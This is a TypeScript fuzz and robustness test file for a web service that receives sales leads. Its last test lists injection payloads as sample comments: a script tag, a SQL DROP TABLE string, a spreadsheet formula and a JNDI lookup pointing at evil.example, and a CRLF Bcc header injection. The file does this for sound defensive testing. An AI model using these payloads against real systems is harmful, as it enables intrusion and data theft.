import fc from 'fast-check';
import { expect, test } from 'vitest';
import { goodBody } from '../testing/bodies.ts';
import { startLeads } from '../testing/start-leads.ts';

const value = fc.oneof(
  fc.string({ unit: 'binary' }),
  fc.jsonValue(),
  fc.constantFrom('8 (900) 123-45-67', 'callback', '2026-09-01', true, '__proto__', '\0'),
);
const field = fc.constantFrom(
  ...Object.keys(goodBody),
  'comment',
  'subject',
  'answers',
  'attribution',
  'marketing',
  'marketingVersion',
  'key',
  'website',
  'callTime',
  'contactBy',
  'shownAt',
  'sentAt',
  '__proto__',
);

/** Duration of fuzzing in minutes; without `FUZZ_MINUTES` a few hundred bodies are tried. */
const minutes = Number(process.env.FUZZ_MINUTES ?? 0);
const effort = (numRuns: number) =>
  minutes > 0 ? { numRuns: Number.MAX_SAFE_INTEGER, interruptAfterTimeLimit: minutes * 60_000 } : { numRuns };
const patience = 60_000 + minutes * 90_000;

/** Checks durations in long runs only, since they need an idle machine. */
function assertQuick(durations: number[]): void {
  if (minutes === 0) return;
  const sorted = durations.toSorted((one, other) => one - other);
  expect(sorted[Math.ceil(sorted.length * 0.999) - 1]).toBeLessThan(200);
}

test(
  'random bodies do not make the service fail',
  async () => {
    await using leads = await startLeads();
    const changes = fc.dictionary(field, value);
    const durations: number[] = [];
    await fc.assert(
      fc.asyncProperty(changes, fc.boolean(), async (change, isJson) => {
        const body = { ...goodBody, ...change };
        const text = Object.fromEntries(
          Object.entries(body).map(([name, given]) => [
            name,
            typeof given === 'string' ? given : JSON.stringify(given),
          ]),
        );
        const begun = performance.now();
        const answer = isJson ? await leads.postJson(body) : await leads.postForm(text);
        await answer.arrayBuffer();
        durations.push(performance.now() - begun);
        expect([201, 200, 303, 422]).toContain(answer.status);
      }),
      effort(400),
    );
    expect(leads.failures).toEqual([]);
    assertQuick(durations);
  },
  patience,
);

test(
  'random bytes do not make the service fail',
  async () => {
    await using leads = await startLeads();
    const type = fc.constantFrom(
      'application/json',
      'application/x-www-form-urlencoded',
      'application/json; charset=utf-16',
    );
    await fc.assert(
      fc.asyncProperty(
        fc.oneof(
          fc.uint8Array({ maxLength: 300 }),
          fc.json().map((text) => new TextEncoder().encode(text)),
        ),
        type,
        async (bytes, contentType) => {
          const answer = await fetch(leads.url, {
            method: 'POST',
            headers: { 'content-type': contentType },
            body: new Uint8Array(bytes),
            redirect: 'manual',
          });
          await answer.arrayBuffer();
          expect(answer.status).toBeLessThan(500);
        },
      ),
      effort(300),
    );
  },
  patience,
);

test('deeply nested JSON is refused and not traversed', async () => {
  await using leads = await startLeads();
  const deep = `${'['.repeat(30_000)}${']'.repeat(30_000)}`;
  for (const name of ['answers', 'attribution', 'website', 'consent', 'name']) {
    const body = JSON.stringify({ ...goodBody, [name]: 0 }).replace(`"${name}":0`, `"${name}":${deep}`);
    const answer = await fetch(leads.url, { method: 'POST', headers: { 'content-type': 'application/json' }, body });
    expect(answer.status).toBeLessThan(500);
  }
});

test('input that is slow for regular expressions is judged as fast as any other', async () => {
  await using leads = await startLeads();
  for (const unit of ['a', 'а.', '://', '[', 'www', '@a', ' ', '\t', '(', '-', '+7', 'о\u0301']) {
    for (const name of ['phone', 'name', 'comment', 'callTime', 'page', 'shownAt', 'consentVersion', 'key']) {
      const text = unit.repeat((name === 'name' ? 90 : name === 'comment' ? 2000 : 15_000) / unit.length);
      const begun = process.cpuUsage();
      const answer = await leads.postJson({ ...goodBody, [name]: text });
      await answer.arrayBuffer();
      expect(answer.status).toBeLessThan(500);
      // CPU time of this process, independent of the machine's load.
      expect(process.cpuUsage(begun).user / 1000, `${name}: ${unit}`).toBeLessThan(200);
    }
  }
}, 60_000);

test('hostile input is stored unchanged', async () => {
  await using leads = await startLeads();
  const hostile = [
    `<script>alert(1)</script>`,
    `'; DROP TABLE leads; --`,
    `=HYPERLINK("http://evil.example")`,
    `\${jndi:ldap://evil.example}`,
    `%0d%0aBcc: thief@evil.example`,
    `{{7*7}} \\x00 \u{1F468}\u200D\u{1F469}`,
  ];
  for (const [index, comment] of hostile.entries()) {
    const send = index % 2 === 0 ? leads.postJson : leads.postForm;
    const body = { ...goodBody, consent: 'yes', name: comment.slice(0, 90), comment } as unknown as Record<
      string,
      string
    >;
    expect([201, 303]).toContain((await send(body)).status);
  }
  expect(leads.rows('SELECT comment FROM leads ORDER BY number').map(({ comment }) => comment)).toEqual(hostile);
});
